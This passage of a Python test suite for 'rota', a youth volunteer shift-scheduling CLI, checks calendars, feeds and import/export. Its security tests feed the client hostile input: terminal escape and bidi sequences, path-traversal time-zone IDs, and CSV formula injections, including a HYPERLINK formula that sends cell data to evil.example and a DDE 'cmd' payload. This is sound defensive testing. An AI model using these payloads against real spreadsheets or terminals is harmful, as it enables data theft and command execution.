        self.assertEqual(self.ok("GET", "/api/v1/settings"), before)

    def test_settings_set_breaking_a_rule_exits_3(self):
        # Ola (17) on a Sunday: legal while Sunday work is justified.
        self.ok("POST", "/api/v1/slots",
                {"id": "sun", "home": "lia", "start": "2027-01-10T11:00",
                 "end": "2027-01-10T13:00"})
        self.ok("POST", "/api/v1/assignments", {"slot": "sun",
                                                "youth": "ola"})
        before = self.ok("GET", "/api/v1/settings")
        r = self.fails(EXIT_REFUSED, "settings", "set",
                       "rule_options.sunday_work_justified=false")
        self.assertIn("refused", r.stderr)
        self.assertIn("youth ola", r.stderr)
        self.assertIn("--force", r.stderr)
        self.assertEqual(self.ok("GET", "/api/v1/settings"), before)
        self.ok_rota("settings", "set", "--force",
                     "rule_options.sunday_work_justified=false")
        got = self.ok("GET", "/api/v1/settings")
        self.assertEqual(got["rule_options"],
                         {"sunday_work_justified": False})
        self.assertIn("youth ola", self.ok_rota("violations").stdout)

    def test_school_calendar_show_and_set(self):
        r = self.ok_rota("school-calendar")
        self.assertEqual(r.stdout.splitlines(), [
            "terms         2026-08-17 to 2026-12-18",
            "              2027-01-04 to 2027-06-18",
            "holidays      2027-02-22 to 2027-02-26",
            "school_hours  08:15-14:30"])
        j = json.loads(self.ok_rota("school-calendar", "--json").stdout)
        self.assertEqual(j, self.ok("GET", "/api/v1/school-calendar"))
        # From a file.
        cal = {"terms": [{"from": "2027-01-04", "to": "2027-06-18"}],
               "holidays": [{"from": "2027-02-22", "to": "2027-02-26"},
                            {"from": "2027-05-14", "to": "2027-05-14"}],
               "school_hours": {"start": "08:00", "end": "14:00"}}
        f = os.path.join(self.home, "calendar.json")
        with open(f, "w") as fh:
            json.dump(cal, fh)
        r = self.ok_rota("school-calendar", "set", f)
        self.assertEqual((r.stdout, r.stderr), ("", ""))
        self.assertEqual(self.ok("GET", "/api/v1/school-calendar"), cal)
        self.assertEqual(self.key_values(self.ok_rota("school-calendar")
                                         .stdout), {
            "terms": "2027-01-04 to 2027-06-18",
            "holidays": "2027-02-22 to 2027-02-26; 2027-05-14",
            "school_hours": "08:00-14:00"})
        # From standard input; left-out keys take their defaults.
        cal = {"terms": [{"from": "2027-08-16", "to": "2027-12-17"}]}
        r = self.ok_rota("school-calendar", "set", "-", "--json",
                         input=json.dumps(cal))
        got = self.ok("GET", "/api/v1/school-calendar")
        self.assertEqual(got, {"terms": cal["terms"], "holidays": []})
        self.assertEqual(json.loads(r.stdout), got)
        self.assertEqual(self.key_values(self.ok_rota("school-calendar")
                                         .stdout), {
            "terms": "2027-08-16 to 2027-12-17",
            "holidays": "none",
            "school_hours": "none (no lesson hours)"})

    def test_school_calendars(self):
        r = self.ok_rota("school-calendars")
        self.assertEqual(r.stdout.split(), ["ID", "NAME", "default",
                                            "default"])
        cal = {"name": "Bergen kommune",
               "terms": [{"from": "2027-01-04", "to": "2027-06-18"}],
               "holidays": [{"from": "2027-03-01", "to": "2027-03-05"}]}
        f = os.path.join(self.home, "bergen.json")
        with open(f, "w") as fh:
            json.dump(cal, fh)
        # Created, then replaced (the same command).
        self.ok_rota("school-calendars", "set", "bergen", f)
        self.assertEqual(self.ok("GET", "/api/v1/school-calendars/bergen"),
                         dict(cal, id="bergen"))
        cal["name"] = "Bergen"
        r = self.ok_rota("school-calendars", "set", "bergen", "-", "--json",
                         input=json.dumps(cal))
        self.assertEqual(json.loads(r.stdout), dict(cal, id="bergen"))
        lines = self.ok_rota("school-calendars", "list").stdout.splitlines()
        self.assertEqual([l.split()[0] for l in lines],
                         ["ID", "default", "bergen"])
        kv = self.key_values(self.ok_rota("school-calendars", "show",
                                          "bergen").stdout)
        self.assertEqual(kv["holidays"], "2027-03-01 to 2027-03-05")
        self.assertEqual(kv["name"], "Bergen")
        # In use: refused, with the count.
        self.ok("PATCH", "/api/v1/youths/ida", {"school_calendar": "bergen"})
        r = self.fails(EXIT_SERVER, "school-calendars", "rm", "bergen")
        self.assertIn("1 youth", r.stderr)
        self.ok("PATCH", "/api/v1/youths/ida", {"school_calendar": None})
        self.ok_rota("school-calendars", "rm", "bergen")
        self.fails(EXIT_SERVER, "school-calendars", "show", "bergen")
        self.fails(EXIT_USAGE, "school-calendars", "set", "bergen")

    def test_school_calendar_refused(self):
        before = self.ok("GET", "/api/v1/school-calendar")
        puts = self.log_count("PUT /api/v1/school-calendar ")
        refused = self.log_count("PUT /api/v1/school-calendar 400")
        bad = os.path.join(self.home, "bad.json")
        with open(bad, "w") as f:
            f.write('{"terms": [{"from": "2027-01-04",\n'
                    '            "to": "2027-06-18"}\n')
        r = self.fails(EXIT_USAGE, "school-calendar", "set", bad)
        self.assertIn("bad.json:3:", r.stderr)
        self.assertIn("not a JSON document", r.stderr)
        r = self.fails(EXIT_USAGE, "school-calendar", "set", "-",
                       input="terms: none\n")
        self.assertIn("standard input:1:", r.stderr)
        r = self.fails(EXIT_USAGE, "school-calendar", "set", "-",
                       input='[{"from": "2027-01-04"}]')
        self.assertIn("is a JSON object", r.stderr)
        r = self.fails(EXIT_USAGE, "school-calendar", "set",
                       os.path.join(self.home, "none.json"))
        self.assertIn("cannot open", r.stderr)
        self.fails(EXIT_USAGE, "school-calendar", "set")
        self.fails(EXIT_USAGE, "school-calendar", "set", bad, bad)
        self.fails(EXIT_USAGE, "school-calendar", "--unset", "terms")
        self.assertEqual(self.log_count("PUT /api/v1/school-calendar "),
                         puts)
        # The server's refusals name the field.
        with open(bad, "w") as f:
            json.dump({"terms": [{"from": "2027-01-04",
                                  "to": "2027-02-30"}]}, f)
        r = self.fails(EXIT_SERVER, "school-calendar", "set", bad)
        self.assertIn("[field 'terms[0].to']", r.stderr)
        self.assertIn("2027-02-30", r.stderr)
        r = self.fails(EXIT_SERVER, "school-calendar", "set", "-",
                       input='{"term": []}')
        self.assertIn("[field 'term']", r.stderr)
        self.assertEqual(r.stdout, "")
        self.assertEqual(self.log_count("PUT /api/v1/school-calendar 400"),
                         refused + 2)
        self.assertEqual(self.ok("GET", "/api/v1/school-calendar"), before)
        # Lesson hours over Ida's (14) Monday visit at 16:00: a rule.
        late = dict(before, school_hours={"start": "08:00", "end": "17:00"})
        r = self.fails(EXIT_REFUSED, "school-calendar", "set", "-",
                       input=json.dumps(late))
        self.assertIn("refused", r.stderr)
        self.assertIn("youth ida", r.stderr)
        self.assertEqual(self.ok("GET", "/api/v1/school-calendar"), before)
        self.ok_rota("school-calendar", "set", "--force", "-",
                     input=json.dumps(late))
        self.assertEqual(self.ok("GET", "/api/v1/school-calendar"), late)

    # ---- import, export, feed links ----

    def test_export_import_round_trip(self):
        out = os.path.join(self.home, "inst.json")
        r = self.ok_rota("export")
        doc = json.loads(r.stdout)
        self.assertEqual([h["id"] for h in doc["homes"]], ["lia", "solheim"])
        self.ok_rota("export", "-o", out)
        self.assertEqual(json.load(open(out)), doc)
        r = self.ok_rota("import", out)
        self.assertEqual(r.stdout, "imported 2 homes, 2 youths, 4 slots, "
                                   "2 assignments\n")
        self.assertEqual(json.loads(self.ok_rota("export").stdout), doc)
        bad = os.path.join(self.home, "bad.json")
        with open(bad, "w") as f:
            f.write('{"version": 1,\n "homes": [}\n')
        r = self.fails(EXIT_USAGE, "import", bad)
        self.assertIn("bad.json:2:", r.stderr)
        doc["slots"][0]["end"] = doc["slots"][0]["start"]
        with open(bad, "w") as f:
            json.dump(doc, f)
        r = self.fails(EXIT_SERVER, "import", bad)
        self.assertIn("slots[0].end", r.stderr)
        self.fails(EXIT_USAGE, "import", os.path.join(self.home, "none"))
        # Standard input works too.
        self.ok_rota("import", "-", input=json.dumps(base_instance()))

    def test_feed_links(self):
        first = self.ok_rota("feed", "youth", "ida").stdout
        self.assertRegex(first, r"(?m)^url +http://127\.0\.0\.1:\d+/feeds/"
                                r"[A-Za-z0-9_-]+\.ics$")
        self.assertRegex(first, r"(?m)^webcal +webcal://")
        # Shown again from the local record, not made anew.
        self.assertEqual(self.ok_rota("feed", "youth", "ida").stdout, first)
        links = os.path.join(self.config_home, "rota", "links")
        self.assertEqual(stat.S_IMODE(os.stat(links).st_mode), 0o600)
        rotated = self.ok_rota("feed", "youth", "ida", "--rotate").stdout
        self.assertNotEqual(rotated, first)
        home = json.loads(self.ok_rota("feed", "home", "solheim",
                                       "--json").stdout)
        self.assertIn("/homes/", home["page"])
        self.assertIn("webcal", self.ok_rota("feed", "all").stdout)
        self.ok_rota("feed", "home", "solheim", "--revoke")
        r = self.fails(EXIT_SERVER, "feed", "youth", "nobody")
        self.assertIn("no youth has id 'nobody'", r.stderr)
        self.fails(EXIT_USAGE, "feed", "resident", "x")

    # ---- feeds for youths and homes ----

    def test_shifts_table_json_and_cancelled(self):
        url = self.feed_url()
        r = self.ok_rota("shifts", url, "--from", "2027-01-01", "--to",
                         "2027-01-31", server=False)
        lines = r.stdout.splitlines()
        self.assertEqual(lines[0].split(),
                         ["DATE", "TIME", "HOME", "ACTIVITY", "STATUS"])
        self.assertEqual(lines[1].split(),
                         ["Monday", "4", "January", "2027", "16:00-18:00",
                          "Solheim",
                          "sykehjem", "Quiz", "confirmed"])
        self.assertEqual(len(lines), 2)
        j = json.loads(self.ok_rota("shifts", url, "--from", "2027-01-01",
                                    "--to", "2027-01-31", "--json",
                                    server=False).stdout)
        self.assertEqual(len(j), 1)
        self.assertEqual(j[0]["start"], "2027-01-04T16:00:00+01:00")
        self.assertEqual(j[0]["home"], "Solheim sykehjem")
        self.assertEqual(j[0]["activity"], "Quiz")
        self.assertEqual(j[0]["status"], "confirmed")
        # A cancelled shift stays, marked as such.
        aid = json.loads(self.ok_rota("assignments", "list", "--slot", "s1",
                                      "--json").stdout)[0]["id"]
        self.ok_rota("cancel", aid)
        r = self.ok_rota("shifts", url, "--from", "2027-01-04", "--to",
                         "2027-01-04", server=False)
        self.assertTrue(r.stdout.splitlines()[1].endswith("cancelled"))
        # Local time zone: the same shift in New York.
        ny = self.env(server=False, TZ="America/New_York")
        r = self.ok_rota("shifts", url, "--from", "2027-01-04", "--to",
                         "2027-01-04", "--json", env=ny)
        self.assertEqual(json.loads(r.stdout)[0]["start"],
                         "2027-01-04T10:00:00-05:00")
        r = self.ok_rota("shifts", url, "--from", "2027-02-01", "--to",
                         "2027-02-02", server=False)
        self.assertEqual(r.stdout, "no shifts from 2027-02-01 to 2027-02-02\n")

    def test_default_period_save_and_next(self):
        url = self.feed_url("youth", "ola")
        r = self.ok_rota("shifts", "--save", url, server=False)
        self.assertIn("Vafler", r.stdout)          # within 14 days
        self.assertNotIn("2027-01", r.stdout)      # beyond them
        cfg = os.path.join(self.config_home, "rota", "config")
        self.assertEqual(stat.S_IMODE(os.stat(cfg).st_mode), 0o600)
        r = self.ok_rota("shifts", server=False)   # the saved link
        self.assertIn(en_date(self.soon), r.stdout)
        r = self.ok_rota("next", server=False)
        self.assertEqual(r.stdout.count("\n"), 1)
        self.assertIn(en_date(self.soon) + " 16:00-18:00 "
                      "Lia bo- og behandlingssenter: Vafler", r.stdout)
        j = json.loads(self.ok_rota("next", "--json", server=False).stdout)
        self.assertEqual(j["activity"], "Vafler")

    def test_home_feed_shows_the_youth(self):
        url = self.feed_url("home", "solheim")
        r = self.ok_rota("shifts", url, "--from", "2027-01-01", "--to",
                         "2027-01-31", server=False)
        lines = r.stdout.splitlines()
        self.assertEqual(lines[0].split(), ["DATE", "TIME", "HOME",
                                            "ACTIVITY", "YOUTH", "STATUS"])
        self.assertEqual(lines[1].split()[-3:], ["Quiz", "Ida", "confirmed"])

    def test_shifts_the_same_in_every_feed_language(self):
        """rota shifts reads the feed's X-ROTA-* properties, not its
        translated SUMMARY: switching a youth's or the organisation's
        language changes the feed's text, never what rota shows."""
        self.ok("PATCH", "/api/v1/slots/s1",
                {"activity": "Quiz, bingo; sang"})
        period = ("--from", "2027-01-01", "--to", "2027-01-31")
        for kind, ident in (("youth", "ida"), ("home", "solheim")):
            with self.subTest(kind=kind):
                url = self.feed_url(kind, ident)
                before = [self.ok_rota("shifts", url, *period, *extra,
                                       server=False).stdout
                          for extra in ((), ("--json",))]
                self.assertIn("Besøk", self.request(
                    "GET", "/feeds/" + url.rsplit("/", 1)[1],
                    token=False).body.decode())
                if kind == "youth":
                    self.ok("PATCH", "/api/v1/youths/ida",
                            {"language": "en"})
                else:
                    s = self.ok("GET", "/api/v1/settings")
                    s["language"] = "en"
                    self.ok("PUT", "/api/v1/settings", s)
                feed = self.request("GET", "/feeds/" + url.rsplit("/", 1)[1],
                                    token=False).body.decode()
                self.assertIn("SUMMARY:Visit – ", feed)
                self.assertNotIn("Besøk", feed)
                after = [self.ok_rota("shifts", url, *period, *extra,
                                      server=False).stdout
                         for extra in ((), ("--json",))]
                self.assertEqual(after, before)
                j = json.loads(after[1])
                self.assertEqual(j[0]["activity"], "Quiz, bingo; sang")
                self.assertEqual(j[0]["home"], "Solheim sykehjem")
                if kind == "home":
                    self.assertEqual(j[0]["youth"], "Ida")

    def test_unknown_feed_link(self):
        r = self.fails(EXIT_SERVER, "shifts", self.server + "/feeds/"
                       + "A" * 43 + ".ics", server=False)
        self.assertIn("not known", r.stderr)
        self.assertNotIn("A" * 43, r.stderr)     # the secret stays out

    def test_refetch_sends_if_none_match_and_gets_304(self):
        url = self.feed_url()
        before200 = self.log_count("GET /feeds/:token 200")
        before304 = self.log_count("GET /feeds/:token 304")
        self.ok_rota("shifts", url, server=False)
        cache = os.path.join(self.cache_home, "rota")
        etags = [f for f in os.listdir(cache) if f.endswith(".etag")]
        self.assertEqual(len(etags), 1)
        self.assertTrue(open(os.path.join(cache, etags[0])).read()
                        .startswith('"'))
        r = self.ok_rota("shifts", url, "--from", "2027-01-04", "--to",
                         "2027-01-04", server=False)
        self.assertIn("Quiz", r.stdout)          # shown from the cache
        self.assertEqual(r.stderr, "")
        self.assertEqual(self.log_count("GET /feeds/:token 200"),
                         before200 + 1)          # no second download
        self.assertEqual(self.log_count("GET /feeds/:token 304"),
                         before304 + 1)
        # A change makes the next fetch a full download again.
        self.ok_rota("slots", "edit", "s1", "--activity", "Bingo")
        r = self.ok_rota("shifts", url, "--from", "2027-01-04", "--to",
                         "2027-01-04", server=False)
        self.assertIn("Bingo", r.stdout)
        self.assertEqual(self.log_count("GET /feeds/:token 200"),
                         before200 + 2)


class FakeServer:
    """A hostile server on a free loopback port: answers each path (the
    query left out) from `routes`, {path: (status, content type, body)};
    records the requests as (method, path with query, body)."""

    def __init__(self):
        self.routes = {}
        self.requests = []
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else b""
                fake.requests.append((self.command, self.path, body))
                route = fake.routes.get((self.command,
                                         self.path.split("?")[0]))
                if route is None:
                    route = fake.routes.get(self.path.split("?")[0])
                status, ctype, data = route or (404, "text/plain", b"no")
                if isinstance(data, (dict, list)):
                    data = json.dumps(data).encode()
                elif isinstance(data, str):
                    data = data.encode("utf-8")
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = do_PATCH = do_DELETE = do_PUT = answer

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever,
                                       daemon=True)
        self.thread.start()

    @property
    def url(self):
        return "http://127.0.0.1:%d" % self.httpd.server_address[1]

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def ics_text(s):
    """iCalendar TEXT escaping (RFC 5545 3.3.11): a line break is \\n."""
    return (s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
            .replace("\n", "\\n"))


def hostile_feed(summary, location="Gata 1", description=None,
                 tzid="Europe/Oslo", day="20300107"):
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//evil//x//EN",
             "BEGIN:VEVENT", "UID:evil-1@x", "DTSTAMP:20270101T000000Z",
             "DTSTART;TZID=%s:%sT160000" % (tzid, day),
             "DTEND;TZID=%s:%sT180000" % (tzid, day),
             "SUMMARY:" + ics_text(summary),
             "LOCATION:" + ics_text(location)]
    if description is not None:
        lines.append("DESCRIPTION:" + ics_text(description))
    lines += ["END:VEVENT", "END:VCALENDAR", ""]
    return "\r\n".join(lines)


# What must never reach a terminal from others' text: C0 controls other
# than the line ends rota itself writes, DEL, C1 (as UTF-8 and as lone
# bytes), bidi embeddings, overrides and isolates.
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e"
                    "\u2066-\u2069\u2028\u2029]")

EVIL = ("Evil\x1b]0;pwned\x07 \x1b[2J\u009b31m\u009d0;x\u009c"
        "\u202eemoh\u202c\u2066i\u2069")


def json_strings(j):
    """Every string in a JSON value, keys included."""
    if isinstance(j, str):
        yield j
    elif isinstance(j, list):
        for x in j:
            yield from json_strings(x)
    elif isinstance(j, dict):
        for k, v in j.items():
            yield k
            yield from json_strings(v)


class HostileTextTest(ClientCase):
    """Feeds and servers that send escape sequences, bidi overrides, line
    breaks and file paths as time zones (issue 18, items 1 and 8)."""

    def setUp(self):
        super().setUp()
        self.fake = FakeServer()

    def tearDown(self):
        self.fake.close()
        super().tearDown()

    def feed(self, text):
        self.fake.routes["/feed.ics"] = (200, "text/calendar", text)
        return self.fake.url + "/feed.ics"

    def assertSafe(self, text):
        self.assertIsNone(UNSAFE.search(text), repr(text))

    def run_bounded(self, args, env=None):
        """Runs rota with a standard input that stays open (reading it
        would block); a hang (the bug) is killed after a generous
        deadline and reported as a failure."""
        rfd, wfd = os.pipe()
        try:
            p = subprocess.Popen([ROTA] + args, env=env or self.env(False),
                                 stdin=rfd, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True)
            os.close(rfd)
            rfd = None
            try:
                out, err = p.communicate(timeout=30)
            except subprocess.TimeoutExpired:
                p.kill()
                p.communicate()
                self.fail("rota %s hung" % " ".join(args))
        finally:
            if rfd is not None:
                os.close(rfd)
            os.close(wfd)
        return p.returncode, out, err

    def test_feed_text_is_shown_not_obeyed(self):
        url = self.feed(hostile_feed(
            "Besøk – %s: Quiz\nMon 2030-01-08  10:00-12:00  Fake  row  "
            "confirmed" % EVIL,
            location="Gata 1\nMon 2030-01-09  fake",
            description="Aktivitet: Quiz\nMon 2030-01-08  10:00-12:00  "
            "Fake  row  confirmed"))
        r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
                         "2030-01-31", server=False)
        self.assertSafe(r.stdout)
        lines = r.stdout.splitlines()
        self.assertEqual(len(lines), 2, r.stdout)        # no fake row
        self.assertIn("⏎", lines[1])
        self.assertIn("\\x1b]0;pwned\\x07", lines[1])     # visible
        self.assertIn("\\u009b31m", lines[1])
        self.assertIn("\\u202eemoh", lines[1])
        self.assertTrue(lines[1].endswith("confirmed"), lines[1])
        # The columns still line up with the header.
        self.assertEqual(lines[1].index("16:00"), lines[0].index("TIME"))
        r = self.ok_rota("next", url, server=False)
        self.assertSafe(r.stdout)
        self.assertEqual(r.stdout.count("\n"), 1, r.stdout)
        # JSON keeps the text as it was, escaped so no terminal obeys it.
        r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
                         "2030-01-31", "--json", server=False)
        self.assertSafe(r.stdout)
        j = json.loads(r.stdout)
        self.assertIn(EVIL, j[0]["home"])
        self.assertEqual(j[0]["location"], "Gata 1\nMon 2030-01-09  fake")
        r = self.ok_rota("next", url, "--json", server=False)
        self.assertSafe(r.stdout)
        self.assertIn(EVIL, json.loads(r.stdout)["home"])

    def test_feed_tzid_that_is_a_path_never_opens_it(self):
        fifo = os.path.join(self.home, "zone.fifo")
        os.mkfifo(fifo)
        up = "../" * 12
        for tzid in (up + fifo.lstrip("/"),
                     "/freeassociation.sourceforge.net/" + up
                     + fifo.lstrip("/"),
                     up + "proc/self/fd/0"):
            with self.subTest(tzid=tzid):
                shutil.rmtree(self.cache_home, ignore_errors=True)
                url = self.feed(hostile_feed("Besøk – Solheim: Quiz",
                                             tzid=tzid))
                rc, out, err = self.run_bounded(
                    ["shifts", url, "--from", "2030-01-01", "--to",
                     "2030-01-31"])
                self.assertEqual(rc, EXIT_OK, err)
                self.assertIn("is not a known IANA zone", err)
                self.assertEqual(err.count("\n"), 1, err)  # once per name
                # Read as a local time: 16:00 where the reader is.
                self.assertIn("16:00-18:00", out)
        # A canonical name still works, with no warning.
        url = self.feed(hostile_feed("Besøk – Solheim: Quiz",
                                     tzid="America/New_York"))
        r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
                         "2030-01-31", "--json", server=False)
        self.assertEqual(r.stderr, "")
        self.assertEqual(json.loads(r.stdout)[0]["start"],
                         "2030-01-07T22:00:00+01:00")
        for bad in ("localtime", "posixrules", "right/UTC", "Factory",
                    "Europe/../Europe/Oslo"):
            url = self.feed(hostile_feed("Besøk – Solheim: Quiz", tzid=bad))
            r = self.ok_rota("shifts", url, "--from", "2030-01-01", "--to",
                             "2030-01-31", server=False)
            self.assertIn("is not a known IANA zone", r.stderr, bad)

    def fake_env(self):
        return self.env(False, ROTA_SERVER=self.fake.url,
                        ROTA_TOKEN="rota_whatever")

    def test_server_text_is_shown_not_obeyed(self):
        evil_list = {"homes": [{"id": "h1" + EVIL, "name": EVIL,
                                "address": "Gata 1\nh2  Fake  row"}]}
        self.fake.routes.update({
            "/api/v1/homes": (200, "application/json", evil_list),
            "/api/v1/homes/h1": (200, "application/json",
                                 {"id": "h1", "name": EVIL,
                                  "k\x1b[2J": "v\nfake  line"}),
            "/api/v1/youths": (200, "application/json",
                               {"youths": [{"id": "y1", "name": EVIL,
                                            "skills": [EVIL]}]}),
            "/api/v1/settings": (200, "application/json",
                                 {"jurisdiction": "NO" + EVIL,
                                  "timezone": "Europe/Oslo",
                                  "options": {"x\x1b[2J": EVIL}}),
            "/api/v1/violations": (200, "application/json",
                                   {"violations": [{
                                       "rule": "R" + EVIL, "youth": EVIL,
                                       "day": "2027-01-04\n  - fake",
                                       "slots": [EVIL],
                                       "message": "m\x1b[2J" + EVIL,
                                       "reference": EVIL}]}),
            ("POST", "/api/v1/assignments"): (
                400, "application/json",
                {"error": {"status": 400, "code": "invalid_field" + EVIL,
                           "message": "bad " + EVIL + "\nrota: fake",
                           "field": "f" + EVIL}}),
        })
        env = self.fake_env()
        for args in (["homes", "list"], ["homes", "show", "h1"],
                     ["youths", "list"], ["settings"], ["violations"]):
            with self.subTest(args=args):
                r = self.ok_rota(*args, env=env)
                self.assertSafe(r.stdout)
                self.assertSafe(r.stderr)
                self.assertIn("\\x1b]0;pwned\\x07", r.stdout)
                if args[-1] == "list":
                    self.assertEqual(len(r.stdout.splitlines()), 2,
                                     r.stdout)
                # JSON: the same text, escaped.
                j = self.ok_rota(*args, "--json", env=env)
                self.assertSafe(j.stdout)
                self.assertTrue(any(EVIL in t for t in
                                    json_strings(json.loads(j.stdout))),
                                j.stdout)
        r = self.fails(EXIT_SERVER, "assign", "s1", "y1", env=env)
        self.assertSafe(r.stderr)
        self.assertEqual(r.stderr.count("\n"), 1, r.stderr)
        self.assertIn("\\x1b]0;pwned\\x07", r.stderr)

    def test_hostile_hours_answer_is_shown_not_obeyed(self):
        self.fake.routes.update({
            "/api/v1/hours": (200, "application/json", {
                "month": "2027-01", "as_of": "2026-12-07T10:00",
                "youths": [{"youth": "y1", "name": EVIL,
                            "worked": {"shifts": 1, "minutes": 60},
                            "planned": {"shifts": 0, "minutes": 0}}],
                "anonymous": [{"home": "h1\n\x1b[2Jfake  row",
                               "shifts": 1, "minutes": 30}],
                "totals": {"worked": {"shifts": 1, "minutes": 60},
                           "planned": {"shifts": 0, "minutes": 0},
                           "anonymous": {"shifts": 1, "minutes": 30}}}),
        })
        rc, out, err = self.run_bounded(["hours", "--month", "2027-01"],
                                        env=self.fake_env())
        self.assertEqual(rc, 0, err)
        self.assertSafe(out)
        self.assertEqual(len(out.splitlines()), 4, out)
        self.fake.routes["/api/v1/hours"] = (200, "application/json",
                                             {"month": "2027-01"})
        rc, out, err = self.run_bounded(["hours", "--month", "2027-01"],
                                        env=self.fake_env())
        self.assertEqual(rc, EXIT_SERVER, err)

    def test_hours_csv_cells_are_never_formulas(self):
        names = {"ida": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                 "ola": "@SUM(1+1)*cmd|' /C calc'!A0"}
        for ident, name in names.items():
            self.ok_rota("youths", "edit", ident, "--name", name)
        self.ok_rota("assign", "s3", "ola")
        r = self.ok_rota("hours", "--month", "2027-01", "--csv")
        rows = list(csv.reader(io.StringIO(r.stdout)))
        self.assertEqual(rows[0][:3], ["youth", "name", "worked_shifts"])
        got = {row[0]: row[1] for row in rows[1:]}
        self.assertEqual(got, {k: "'" + v for k, v in names.items()})
        for line in r.stdout.splitlines()[1:]:
            self.assertTrue(line.startswith('"'), line)   # every cell quoted
            self.assertNotRegex(line, r'(^|,)[=+\-@]')
        # The table and JSON show the names as they are.
        self.assertIn(names["ida"], self.ok_rota("hours", "--month",
                                                 "2027-01").stdout)
        j = json.loads(self.ok_rota("hours", "--month", "2027-01",
                                    "--json").stdout)
        self.assertEqual({x["youth"]: x["name"] for x in j["youths"]}, names)


class TerminalTest(ClientCase):
    """Runs rota on a pseudo-terminal, as a person at a keyboard would."""

    def run_on_tty(self, args, send=None, server=True):
        master, slave = pty.openpty()
        p = subprocess.Popen([ROTA] + args, env=self.env(server),
                             stdin=slave, stdout=slave, stderr=slave,
                             start_new_session=True)
        os.close(slave)
        out = b""
        try:
            if send is not None:
                # Wait for the prompt, then type.
                while b"API token for" not in out:
                    r, _, _ = select.select([master], [], [], 10)
                    self.assertTrue(r, "no prompt: %r" % out)
                    out += os.read(master, 4096)
                os.write(master, send)
            while True:
                r, _, _ = select.select([master], [], [], 10)
                if not r:
                    break
                try:
                    chunk = os.read(master, 4096)
                except OSError:
                    break
                if not chunk:
                    break
                out += chunk
        finally:
            try:
                rc = p.wait(timeout=30)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
                raise
            finally:
                os.close(master)
        return rc, out.decode("utf-8", "replace")

    def test_login_on_a_terminal_does_not_echo_the_token(self):
        rc, out = self.run_on_tty(["login", self.server],
                                  send=(self.api_token + "\n").encode(),
                                  server=False)
        self.assertEqual(rc, EXIT_OK, out)
        self.assertIn("API token for %s: " % self.server, out)
        self.assertNotIn(self.api_token, out)
        text = open(os.path.join(self.config_home, "rota", "config")).read()
        self.assertIn("token %s\n" % self.api_token, text)

    def test_import_shows_progress_on_a_terminal(self):
        f = os.path.join(self.home, "inst.json")
        with open(f, "w") as fh:
            json.dump(base_instance(), fh)
        rc, out = self.run_on_tty(["import", f])
        self.assertEqual(rc, EXIT_OK, out)
        self.assertIn("\rrota: ", out)          # a progress line ...
        self.assertIn("\r\x1b[K", out)          # ... wiped at the end
        self.assertIn("imported 2 homes", out)
        # Not on a terminal: no progress, nothing on stderr.
        r = self.ok_rota("import", f)
        self.assertEqual(r.stderr, "")

    def test_lists_follow_every_page(self):
        inst = base_instance()
        inst["homes"] += [{"id": "h%04d" % i, "name": "Home %d" % i}
                          for i in range(1200)]
        self.ok("POST", "/api/v1/import", inst)
        homes = json.loads(self.ok_rota("homes", "list", "--json").stdout)
        self.assertEqual(len(homes), 1202)
        self.assertEqual(len({h["id"] for h in homes}), 1202)
        self.assertGreaterEqual(self.log_count("GET /api/v1/homes 200"), 3)


class OfflineTest(ClientCase):
    """Stops its daemon: the feed comes from the cache, the API fails."""

    def test_offline_fallback_to_the_cache(self):
        url = self.feed_url()
        self.ok_rota("shifts", url, "--from", "2027-01-01", "--to",
                     "2027-01-31", server=False)
        self.daemon.stop()
        try:
            r = self.ok_rota("shifts", url, "--from", "2027-01-01", "--to",
                             "2027-01-31", server=False)
            self.assertIn("Solheim sykehjem", r.stdout)
            self.assertRegex(r.stderr, r"^rota: cannot reach 127\.0\.0\.1:"
                             r"\d+: .*; showing the cached copy from "
                             r"\d+ seconds? ago\n$")
            self.assertNotIn("/feeds/", r.stderr)
            r = self.ok_rota("next", url, server=False)
            self.assertIn("cached copy", r.stderr)
            # No cache, no server: a connection error.
            shutil.rmtree(self.cache_home)
            r = self.fails(EXIT_USAGE, "shifts", url, server=False)
            self.assertIn("cannot reach", r.stderr)
            r = self.fails(EXIT_USAGE, "homes", "list")
            self.assertIn("cannot reach the server at " + self.server,
                          r.stderr)
        finally:
            self.daemon.start()


if __name__ == "__main__":
    unittest.main()
